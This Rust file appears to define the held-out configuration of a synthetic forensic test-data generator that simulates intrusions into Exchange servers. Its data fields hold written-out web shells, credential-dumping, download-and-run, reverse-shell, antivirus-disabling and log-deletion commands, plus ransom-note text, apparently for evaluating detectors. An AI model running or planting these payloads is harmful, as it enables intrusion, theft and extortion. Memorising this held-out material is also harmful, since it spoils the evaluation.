//! The held-out set: NOT to be read by whoever tunes rules, readers or the judge; see `habits.rs`.

use super::Habits;
use crate::attack::aftermath::{Aftermath, Deed, Left, Ransom, RegistryChange, Set};
use crate::attack::odd_page::OddPage;
use crate::attack::{Below, Intruder, Page, Place};
use crate::host::{Columns, Heading, Host, WebColumns};
use crate::moment::Moment;
use crate::program::{CMD, W3WP};
use crate::server::Encoding;
use crate::shape::Shape;
use crate::technique::Technique;

/// The held-out set.
pub(super) const HABITS: Habits = Habits {
    set: "held-out",
    scripts: &[],
    hosts: [&CLINIC, &WORKS, &COUNCIL],
    shapes: &[Shape::Packed, Shape::Flat, Shape::Tree, Shape::Folders, Shape::Archive, Shape::Triage],
    first_day: Moment::day(2021, 2, 28),
    intruders: [&VIOLA, &OBOE, &BASSOON],
    aftermath: &AFTERMATH,
    odd_code: &ODD_CODE,
    odd_places: &ODD_PLACES,
    written: (Page { place: EXPORT_TOOL, name: "iisfoot.aspx" }, WRITTEN),
    voice_command: "\"C:\\Windows\\System32\\cmd.exe\" /Q /c nslookup -type=srv _ldap._tcp.dc._msdcs.council.example.org",
    probers: [&HORN, &DRUM],
    scanner: ("198.51.100.254", "Mozilla/5.0 (Windows NT 10.0; WOW64; Expanse indexes the network perimeters)"),
    deletion: &[
        "powershell -c \"gci 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\HttpProxy\\Ecp' | Remove-Item -Force\"",
        "forfiles /P \"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\ECP\\Server\" /C \"cmd /c del @path\"",
    ],
};

const USERS: &[&str] =
    &["n.abe", "d.schulz", "Ekaterina.L", "f.rossi", "y.tanaka", "o.haddad", "lwhite", "s.ng", "p.kowalska"];

const CLINIC: Host = Host {
    name: "srv-exch16",
    domain: "ad.clinic.example.org",
    netbios: "CLINIC",
    mail_names: &["post.clinic.example.org"],
    address: "172.16.8.25",
    link_local: "fe80::5c1e:8a0b:33d7:6f4e",
    product: "Exchange Server 2016 CU19",
    build: [15, 1, 2176, 2],
    fixed: 9,
    columns: Columns::Middle,
    heading: Heading::CommentsThenPlain,
    install: "C:\\Program Files\\Microsoft\\Exchange Server\\V15",
    web_logs: "D:\\Logs\\IIS",
    sites: (3, 4),
    web_columns: WebColumns::Forwarded,
    web_root: "C:\\inetpub\\wwwroot",
    users: USERS,
    admin: "administrator.it",
    domain_sid: "S-1-5-21-3623811015-3361044348-30300820",
    tongue: crate::host::Tongue::English,
};

const WORKS: Host = Host {
    name: "EXCH2019-B",
    domain: "works.example.com",
    netbios: "WORKS",
    mail_names: &["mail2.works.example.com", "autodiscover.works.example.com"],
    product: "Exchange Server 2019 CU7",
    build: [15, 2, 721, 6],
    fixed: 13,
    columns: Columns::Full,
    heading: Heading::CommentsOnly,
    install: "E:\\Exchange",
    web_logs: "C:\\inetpub\\logs\\LogFiles",
    sites: (1, 2),
    web_columns: WebColumns::Default,
    ..CLINIC
};

const COUNCIL: Host = Host {
    name: "CNCLMAIL",
    domain: "council.example.net",
    netbios: "COUNCIL",
    mail_names: &["webmail.council.example.net"],
    product: "Exchange Server 2016 CU14",
    build: [15, 1, 1847, 3],
    fixed: 12,
    columns: Columns::Middle,
    heading: Heading::CommentsOnly,
    web_logs: "C:\\inetpub\\logs\\LogFiles",
    sites: (1, 2),
    web_columns: WebColumns::Extended,
    ..CLINIC
};

const OWA_AUTH: Place =
    Place { below: Below::Product, folder: "FrontEnd\\HttpProxy\\owa\\auth", url: "/owa/auth", protocol: Some("Owa") };
const CURRENT: Place = Place {
    below: Below::Product,
    folder: "FrontEnd\\HttpProxy\\owa\\auth\\Current",
    url: "/owa/auth/Current",
    protocol: Some("Owa"),
};
const SCRIPTS: Place = Place {
    below: Below::Product,
    folder: "FrontEnd\\HttpProxy\\owa\\auth\\Current\\scripts\\premium",
    url: "/owa/auth/Current/scripts/premium",
    protocol: Some("Owa"),
};
const EXPORT_TOOL: Place = Place {
    below: Below::Product,
    folder: "ClientAccess\\ecp\\Current\\exporttool",
    url: "/ecp/Current/exporttool",
    protocol: Some("Ecp"),
};
const SITE: Place = Place { below: Below::Site, folder: "certsrv_help", url: "/certsrv_help", protocol: None };
const VERSIONED: Place = Place {
    below: Below::Site,
    folder: "aspnet_client\\system_web\\4_0_30319",
    url: "/aspnet_client/system_web/4_0_30319",
    protocol: None,
};
const RPC: Place =
    Place { below: Below::Product, folder: "FrontEnd\\HttpProxy\\rpc", url: "/rpc", protocol: Some("RpcHttp") };
const ACTIVE: Place = Place {
    below: Below::Product,
    folder: "FrontEnd\\HttpProxy\\sync",
    url: "/Microsoft-Server-ActiveSync",
    protocol: Some("Eas"),
};

const VIOLA: Intruder = Intruder {
    addresses: &["192.0.2.201", "192.0.2.9", "203.0.113.240"],
    locate_agent: "Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko",
    chain_agent: "Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko",
    page_agent: "Mozilla/5.0 (iPhone; CPU iPhone OS 14_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    stem: "/owa/auth/Current/scripts/premium/fexppw.js",
    target: "mx']@HOST:444",
    ending: "#~1941962753",
    hint: "X-AnonResource-Backend-Cookie",
    pace: 47_000,
    url_head: "https://%20/?",
    item: "__VIEWSTATEENC",
    pages: &[Page { place: CURRENT, name: "bootr.aspx" }, Page { place: VERSIONED, name: "WebResource.aspx" }],
    commands: &[
        "\"C:\\Windows\\System32\\cmd.exe\" /d /s /c \"set u\"",
        "\"C:\\Windows\\System32\\cmd.exe\" /d /s /c \"dsquery server -limit 0\"",
        "\"C:\\Windows\\System32\\cmd.exe\" /d /s /c \"wevtutil gl Security\"",
    ],
};

const OBOE: Intruder = Intruder {
    addresses: &["203.0.113.18", "203.0.113.19"],
    locate_agent: "Java/1.8.0_251",
    chain_agent: "Java/1.8.0_251",
    page_agent: "Java/1.8.0_251",
    stem: "/ecp/15.1.2176/scripts/js.js",
    target: "HOST:444",
    ending: "",
    hint: "X-BEResource-Cookie",
    pace: 2_900,
    url_head: "http://0/%23",
    item: "rd_tk",
    pages: &[Page { place: SITE, name: "certfnsh2.aspx" }],
    commands: &["cmd /c ver", "cmd /c netstat -ano", "cmd /c type \"DIR\\certfnsh2.aspx\""],
};

const BASSOON: Intruder = Intruder {
    addresses: &["2001:db8:4:1::c0de"],
    locate_agent: "ExchangeWebServicesProxy/CrossSite/EXCH/15.01.2176.002",
    chain_agent: "okhttp/3.12.1",
    page_agent: "okhttp/3.12.1",
    stem: "/ecp/rulesEditor/images/x.png",
    target: "[HOST]:444",
    ending: "#",
    hint: "X-BEResource-Cookie",
    pace: 650,
    url_head: "http://a/",
    item: "tt",
    pages: &[Page { place: OWA_AUTH, name: "2hk7qv.aspx" }],
    commands: &["cmd /c net view", "cmd /c arp -a"],
};

const HORN: Intruder = Intruder {
    addresses: &["198.51.100.252"],
    chain_agent: "Wget/1.20.3 (linux-gnu)",
    stem: "/ecp/auth/x.gif",
    ..OBOE
};
const DRUM: Intruder =
    Intruder { addresses: &["203.0.113.99", "203.0.113.100"], stem: "/owa/auth/logoff.ttf", ..BASSOON };

const WRITTEN: &str = "<%@ Page Language=\"C#\" validateRequest=\"false\"%><%@ Import Namespace=\"System.Diagnostics\" %><%var i=new Process¦StartInfo(\"cmd\",\"/c \"+Req¦uest.Form[\"tok\"]){RedirectStandardOutput=true,UseShell¦Execute=false};Response.Write(Pro¦cess.St¦art(i).StandardOutput.ReadToEnd());%>\r\n";

const AFTERMATH: Aftermath = Aftermath {
    deeds: &[
        Deed {
            technique: Technique::CredentialDump,
            parent: W3WP,
            image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            command: "powershell -c \"$p=(gps lsa*).Id; rundll32 coms¦vcs.dll,#24 $p C:\\Users\\Public\\Libraries\\d.bin full\"",
        },
        Deed {
            technique: Technique::CredentialDump,
            parent: CMD,
            image: "C:\\Windows\\System32\\reg.exe",
            command: "reg save hklm\\s¦am C:\\Users\\Public\\Libraries\\s.dat",
        },
        Deed {
            technique: Technique::DirectoryDump,
            parent: CMD,
            image: "C:\\Windows\\System32\\esentutl.exe",
            command: "esent¦utl.exe /y /vss C:\\Windows\\NTDS\\nt¦ds.dit /d C:\\Users\\Public\\Libraries\\n.dat",
        },
        Deed {
            technique: Technique::StagedArchive,
            parent: CMD,
            image: "C:\\Windows\\System32\\makecab.exe",
            command: "makecab C:\\Users\\Public\\Libraries\\d.bin C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\bg.gif",
        },
        Deed {
            technique: Technique::StagedArchive,
            parent: CMD,
            image: "C:\\Users\\Public\\Libraries\\r.exe",
            command: "C:\\Users\\Public\\Libraries\\r.exe a -hpV7 -m5 C:\\Users\\Public\\Libraries\\b.rar C:\\Users\\Public\\Libraries\\*.dat",
        },
        Deed {
            technique: Technique::Download,
            parent: CMD,
            image: "C:\\Windows\\System32\\bitsadmin.exe",
            command: "bits¦admin /transfer j /download /priority normal https://203.0.113.240/l.png C:\\Users\\Public\\Libraries\\l.dll",
        },
        Deed {
            technique: Technique::Download,
            parent: CMD,
            image: "C:\\Windows\\System32\\mshta.exe",
            command: "msh¦ta.exe http://203.0.113.240/h.hta",
        },
        Deed {
            technique: Technique::HiddenFile,
            parent: CMD,
            image: "C:\\Windows\\System32\\attrib.exe",
            command: "attrib +s +h \"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\WebResource.aspx\"",
        },
        Deed {
            technique: Technique::RegistryChange,
            parent: CMD,
            image: "C:\\Windows\\System32\\reg.exe",
            command: "reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDeny¦TSConnections /t REG_DWORD /d 0 /f",
        },
        Deed {
            technique: Technique::LateralMove,
            parent: CMD,
            image: "C:\\Users\\Public\\Libraries\\p.exe",
            command: "p.exe \\\\FILE02 -accepteula -s -d cmd /c C:\\Windows\\Temp\\go.bat & copy Ps¦Exec.exe \\\\FILE02\\ADMIN$",
        },
        Deed {
            technique: Technique::DefenceOff,
            parent: CMD,
            image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            command: "powershell Set-Mp¦Preference -DisableRealtime¦Monitoring $true",
        },
    ],
    left: &[
        Left {
            technique: Technique::CredentialDump,
            path: "C:\\Users\\Public\\Libraries\\d.bin",
            head: b"MDMP\x93\xa7\x61\x00",
            size: 50_000,
        },
        Left {
            technique: Technique::StagedArchive,
            path: "C:\\Users\\Public\\Libraries\\b.rar",
            head: b"Rar!\x1a\x07\x01\0",
            size: 8_000,
        },
        Left {
            technique: Technique::StagedArchive,
            path: "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\bg.gif",
            head: b"MSCF\0\0\0\0",
            size: 12_000,
        },
        Left {
            technique: Technique::StagedArchive,
            path: "C:\\ProgramData\\Comms\\q.zip",
            head: b"PK\x03\x04\x14\0\x09\0",
            size: 5_000,
        },
    ],
    tasks: &[
        (
            "Microsoft\\Windows\\NetTrace\\GatherNetworkInfo2",
            "C:\\Windows\\System32\\rundll32.exe",
            "C:\\Users\\Public\\Libraries\\l.dll,Start",
            15,
        ),
        ("Optimize Volumes", "C:\\Windows\\System32\\msh¦ta.exe", "http://203.0.113.240/u", 120),
    ],
    services: &[
        ("WdiSystemHost2", "C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\Libraries\\l.dll,Svc"),
        ("AnyDesk-ad_1f3c", "\"C:\\ProgramData\\AnyDesk-ad_1f3c\\AnyDesk.exe\" --service"),
    ],
    registry: &[
        RegistryChange {
            technique: Technique::RegistryChange,
            hive: "SYSTEM",
            key: "ControlSet001\\Control\\Terminal Server",
            name: "fDenyTSConnections",
            value: Set::Number(0),
        },
        RegistryChange {
            technique: Technique::RegistryChange,
            hive: "SOFTWARE",
            key: "Microsoft\\Windows\\CurrentVersion\\RunOnce",
            name: "LibCheck",
            value: Set::Text("rundll32.exe C:\\Users\\Public\\Libraries\\l.dll,Run"),
        },
    ],
    account: "svc_oab$",
    scripts: &[
        (
            Technique::Download,
            "$w=New-Object Net.Web¦Client;$w.Proxy=$null;$b=$w.Down¦loadData('https://203.0.113.240/l.png');[Reflection.Assem¦bly]::Load($b).EntryPoint.Invoke($null,$null)",
        ),
        (
            Technique::RemoteTool,
            "$c=New-Object Net.Sockets.TCP¦Client('203.0.113.240',8443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){i¦ex ([Text.Encoding]::ASCII.GetString($b,0,$i))}",
        ),
        (
            Technique::Discovery,
            "([adsisearcher]'(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))').FindAll()",
        ),
        (
            Technique::DefenceOff,
            "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('am'+'siInitFailed','NonPublic,Static').SetValue($null,$true)",
        ),
    ],
    management: &[
        (
            Technique::MailboxExport,
            "New-MailboxExportRequest",
            "-Mailbox \"MAILBOX\" -ContentFilter \"(Received -gt '01/01/2021')\" -FilePath \"\\\\localhost\\c$\\ProgramData\\Comms\\q.pst\"",
        ),
        (
            Technique::MailboxAccess,
            "New-ManagementRoleAssignment",
            "-Name \"svc-imp\" -Role \"ApplicationImpersonation\" -User \"svc_oab$\"",
        ),
        (
            Technique::MailboxAccess,
            "Set-Mailbox",
            "-Identity \"MAILBOX\" -ForwardingSmtpAddress \"smtp:archive@example.com\" -DeliverToMailboxAndForward \"True\"",
        ),
        (
            Technique::ServerModule,
            "Install-TransportAgent",
            "-Name \"Delivery Helper\" -TransportAgentFactory \"X.Factory\" -AssemblyPath \"C:\\Users\\Public\\Libraries\\t.dll\"",
        ),
    ],
    fetched: ("/aspnet_client/system_web/4_0_30319/bg.gif", None),
    module: ("WebDavFilterModule", "C:\\Windows\\Temp\\davf.dll"),
    typed: &[
        (Technique::DefenceOff, "Add-Mp¦Preference -ExclusionPath C:\\Users\\Public\\Libraries"),
        (Technique::LogClearing, "wevt¦util cl \"Windows PowerShell\""),
        (
            Technique::RemoteTool,
            "iwr https://203.0.113.240/AnyDesk.exe -OutFile C:\\ProgramData\\AnyDesk-ad_1f3c\\AnyDesk.exe",
        ),
    ],
    hosts: &["0.0.0.0 definitionupdates.microsoft.com", "203.0.113.240 download.windowsupdate.com"],
    exclusion: "C:\\Users\\Public\\Libraries",
    threat: "Trojan:JS/Chop¦per!dha",
    ransom: Ransom {
        service: ("MSDTCX", "C:\\PerfLogs\\e.exe -p \\\\*\\C$"),
        notes: &["C:\\decrypt_file.TxT", "C:\\Shares\\decrypt_file.TxT"],
        text: "Can't open your files? All documents were encry¦pted and copied. Send 10,000$ of Bitcoin to the wallet below within 3 days, then write to support@example.net with your ID.\r\n",
        locked: &["C:\\Shares\\2021-budget.Aj4kQ2", "C:\\Shares\\patients.Aj4kQ2"],
    },
};

const ODD_CODE: [OddPage; 8] = [
    OddPage::new(
        OWA_AUTH,
        "getprop.aspx",
        "indexing the global object by a joined name",
        "<%@ Page Language=\"JScript\"%><%var n=String.fromCharCode(101,118,97,108);this[n](Req¦uest.Headers[\"X-Tk\"],\"uns\"+'afe');%>",
    ),
    OddPage::new(
        VERSIONED,
        "scriptforms.aspx",
        "CodeDom compiles what is sent",
        "<%@ Page Language=\"C#\"%><%@ Import Namespace=\"Microsoft.CSharp\"%><%@ Import Namespace=\"System.CodeDom.Compiler\"%><%var c=new CSharpCode¦Provider();var q=new CompilerParameters(){GenerateInMemory=true};var r=c.CompileAssembly¦FromSource(q,Req¦uest.Form[\"src\"]);r.Compiled¦Assembly.CreateInstance(\"K\").ToString();%>",
    ),
    OddPage::new(
        SITE,
        "help.asmx",
        "a web service with a method that runs commands",
        "<%@ WebService Language=\"C#\" Class=\"H\" %>using System.Web.Services;using System.Diagnostics;public class H:WebService{[WebMethod]public string T(string a){var p=Pro¦cess.St¦art(new Process¦StartInfo(\"cm\"+\"d.e\"+\"xe\",\"/c \"+a){UseShellExecute=false,RedirectStandardOutput=true});return p.StandardOutput.ReadToEnd();}}",
    ),
    OddPage::new(
        SITE,
        "tree.aspx",
        "a stylesheet with a script of its own",
        "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Xml.Xsl\" %><%var s=\"<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:ms='urn:schemas-microsoft-com:xslt' xmlns:u='u'><ms:scr¦ipt language='c#' implements-prefix='u'>\"+Req¦uest[\"x\"]+\"</ms:scr¦ipt></xsl:stylesheet>\";var t=new XslCompiled¦Transform();t.Load(new System.Xml.XmlTextReader(new System.IO.StringReader(s)),new XsltSettings(true,true),null);%>",
    ),
    OddPage::new(
        OWA_AUTH,
        "signoutex.aspx",
        "VB with a class that runs what a cookie says",
        "<%@ Page Language=\"VB\" Debug=\"true\" %><script runat=\"server\">Sub Page_Load(s As Object,e As EventArgs):Dim p As New System.Diagnostics.Pro¦cess():p.StartInfo.File¦Name=Chr(99)&Chr(109)&Chr(100):p.StartInfo.Arguments=\"/c \"&Req¦uest.Cookies(\"lang\").Value:p.St¦art():End Sub</script>",
    ),
    OddPage::new(
        CURRENT,
        "blank.aspx",
        "names in escapes of C#",
        "<%@ Page Language=\"c#\" %><% \\u0053ystem.\\u0052eflection.Assem¦bly.Lo\\u0061d(Convert.From¦Base64String(Req¦uest.Params[\"s\"])).GetType(\"A\").GetMethod(\"B\").Invoke(null,null); %>",
    ),
    OddPage {
        encoding: Encoding::Wide,
        ..OddPage::new(
            SCRIPTS,
            "premiumex.aspx",
            "stored as UTF-16",
            "<%@ Page Language=\"C#\"%><%new System.Web.UI.LosFor¦matter().Deserial¦ize(Req¦uest.Form[\"__S\"]);%>",
        )
    },
    OddPage::new(
        RPC,
        "rpcproxy.aspx",
        "deserialises what it is sent",
        "<%@ Page Language=\"C#\"%><%@ Import Namespace=\"System.Runtime.Serialization.Formatters.Binary\"%><%new Binary¦Formatter().Deserial¦ize(new System.IO.MemoryStream(Convert.From¦Base64String(Req¦uest.Form[0])));%>",
    ),
];

const ODD_PLACES: [OddPage; 6] = [
    OddPage::new(
        ACTIVE,
        "default2.aspx",
        "beside the protocol for phones",
        "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest.Form[\"Cmd\"],\"uns¦afe\");%>",
    ),
    OddPage {
        dated: Some(Moment::day(2020, 12, 15).clock(23, 2, 55)),
        ..OddPage::new(
            EXPORT_TOOL,
            "manifest.ashx",
            "back-dated to the day of the last update",
            "<%@ WebHandler Language=\"C#\" Class=\"M\" %>public class M:System.Web.IHttpHandler{public void ProcessRequest(System.Web.HttpContext c){System.Diagnostics.Pro¦cess.St¦art(c.Req¦uest[\"m\"]);}public bool IsReusable{get{return false;}}}",
        )
    },
    OddPage::new(
        CURRENT,
        "frame.master",
        "a master page with the code of its page",
        "<%@ Master Language=\"C#\" %><script runat=\"server\">void Page_Init(object o,EventArgs e){System.Diagnostics.Pro¦cess.St¦art(\"cmd\",\"/c \"+Req¦uest[\"v\"]);}</script>",
    ),
    OddPage::new(
        SITE,
        "web.config",
        "a page inside a web.config",
        "<?xml version=\"1.0\"?><configuration><system.webServer><handlers accessPolicy=\"Read,Script,Write\"><add name=\"cfg\" path=\"web.config\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" /></handlers></system.webServer></configuration><!-- <% Response.Write(CreateObject(\"WScript.Sh¦ell\").Ex¦ec(\"cmd /c \" & Req¦uest(\"g\")).StdOut.ReadAll()) %> -->",
    ),
    OddPage::new(
        Place { below: Below::Site, folder: "aspnet_client\\.thumbs", url: "/aspnet_client/.thumbs", protocol: None },
        "a.aspx;.jpg",
        "an odd name in a folder that begins with a dot",
        "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest.QueryString[\"t\"],\"uns¦afe\");%>",
    ),
    OddPage::new(
        Place {
            below: Below::Product,
            folder: "FrontEnd\\HttpProxy\\ecp\\bin",
            url: "/ecp/bin",
            protocol: Some("Ecp"),
        },
        "Microsoft.Exchange.Clients.Strings2.dll",
        "a library of pages among the product's own",
        "MZ\u{90}\u{0}This program cannot be run in DOS mode.\u{0}PE\u{0}\u{0}mscoree.dll\u{0}IHttpHandler\u{0}ProcessRequest\u{0}get_Form\u{0}Assem¦bly.Load\u{0}FromBase64String\u{0}",
    ),
];
